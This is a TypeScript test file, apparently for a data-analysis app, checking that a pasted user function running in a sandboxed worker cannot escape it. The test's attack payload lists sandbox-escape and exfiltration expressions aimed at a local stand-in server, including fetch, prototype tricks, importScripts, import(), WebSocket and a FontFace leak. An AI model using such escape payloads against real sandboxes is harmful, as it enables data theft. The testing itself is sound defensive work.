import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { fileURLToPath } from "node:url";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { openedStudio } from "./opened-studio.js";

const IRIS = fileURLToPath(new URL("../../../core/test/fixtures/iris.csv", import.meta.url));
const studio = openedStudio([IRIS]);

/** Each is an expression that reaches out of the worker, or rejects or throws. `ALIEN` and `DATA` stand for addresses. */
const ATTEMPTS = {
  fetch: "fetch(ALIEN)",
  "fetch of the table": "fetch(DATA).then((response) => response.text())",
  "fetch from the prototypes": "Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch.call(self, ALIEN)",
  "fetch of another realm": "(function () { return this; })().constructor.constructor('return fetch')()(ALIEN)",
  XMLHttpRequest:
    "(() => { const request = new XMLHttpRequest(); request.open('GET', ALIEN, false); request.send(); return request.responseText; })()",
  WebSocket:
    "new Promise((open, fail) => { const socket = new WebSocket(ALIEN.replace('http', 'ws')); socket.onopen = open; socket.onerror = fail; })",
  WebTransport: "new WebTransport(ALIEN.replace('http:', 'https:')).ready",
  EventSource:
    "new Promise((open, fail) => { const source = new EventSource(ALIEN); source.onopen = open; source.onerror = fail; })",
  importScripts: "importScripts(ALIEN)",
  "import()": "import(ALIEN)",
  FontFace: "new FontFace('leak', 'url(' + ALIEN + ')').load()",
  "a worker of its own":
    "new Promise((answer, fail) => { const own = new Worker(URL.createObjectURL(new Blob(['postMessage(typeof fetch)']))); own.onmessage = answer; own.onerror = fail; })",
  indexedDB:
    "new Promise((open, fail) => { const request = indexedDB.open('kept'); request.onsuccess = open; request.onerror = fail; })",
  caches: "caches.open('kept')",
  "files of the origin": "navigator.storage.getDirectory()",
  BroadcastChannel: "new BroadcastChannel('studio')",
  eval: "eval('1 + 1')",
} as const;

/** A pasted function that makes all attempts as soon as it is loaded, and throws the outcomes when it is asked. */
function attack(alien: string, data: string): string {
  const attempts = Object.entries(ATTEMPTS).map(([name, code]) => `${JSON.stringify(name)}: async () => ${code}`);
  return `
const ALIEN = ${JSON.stringify(alien)}, DATA = ${JSON.stringify(data)};
const outcomes = {};
const attempts = { ${attempts.join(",\n")} };
const started = Object.entries(attempts).map(async ([name, attempt]) => {
  try { outcomes[name] = "reached: " + String(await attempt()).slice(0, 40); } catch (error) { outcomes[name] = "refused"; }
});
function lossAndGradient(W) {
  if (Object.keys(outcomes).length === started.length) throw new Error(JSON.stringify({ origin: self.origin, outcomes }));
  // Waits for the outcomes: the doctor asks again.
  const until = Date.now() + 200;
  while (Date.now() < until);
  return { loss: Math.random(), gradient: W.map((row) => row.map(() => Math.random())) };
}`;
}

describe("a pasted function that wants out", () => {
  const asked: string[] = [];
  let alien: Server;
  beforeAll(async () => {
    alien = createServer((request, response) => {
      asked.push(request.url!);
      response.writeHead(200, { "Access-Control-Allow-Origin": "*", "Content-Type": "text/javascript" }).end("1;");
    });
    await new Promise<void>((resolve) => alien.listen(0, "127.0.0.1", resolve));
  });
  afterAll(() => alien.close());

  it("reaches no server, not its own page's table, no storage and no further worker", async () => {
    const page = await studio.open("screen=doctor&patient=function");
    const given = new URLSearchParams(studio.given());
    const table = `${studio.address()}data/${given.get("key")}/${given.get("load")}`;
    expect(await page.evaluate(async (address) => (await fetch(address)).status, table)).toBe(200);
    const address = `http://127.0.0.1:${(alien.address() as AddressInfo).port}/`;
    await page.getByRole("textbox", { name: "lossAndGradient" }).fill(attack(address, table));
    await page.getByRole("button", { name: "Examine the function" }).click();
    await page.locator(".problem").waitFor({ timeout: 45_000 });
    const { origin, outcomes } = JSON.parse(
      /threw: Error: (\{.*\})/.exec((await page.locator(".problem").textContent())!)![1]!,
    );
    expect(origin).toBe("null");
    expect(outcomes).toEqual(Object.fromEntries(Object.keys(ATTEMPTS).map((name) => [name, "refused"])));
    expect(asked).toEqual([]);
    expect(await page.locator("iframe").count()).toBe(0);
    // What the policy blocks is reported as an error, and as a request that is never sent.
    studio.forgive(/Content Security Policy/);
    studio.forgive(new RegExp(`^${address}$`));
  });
});
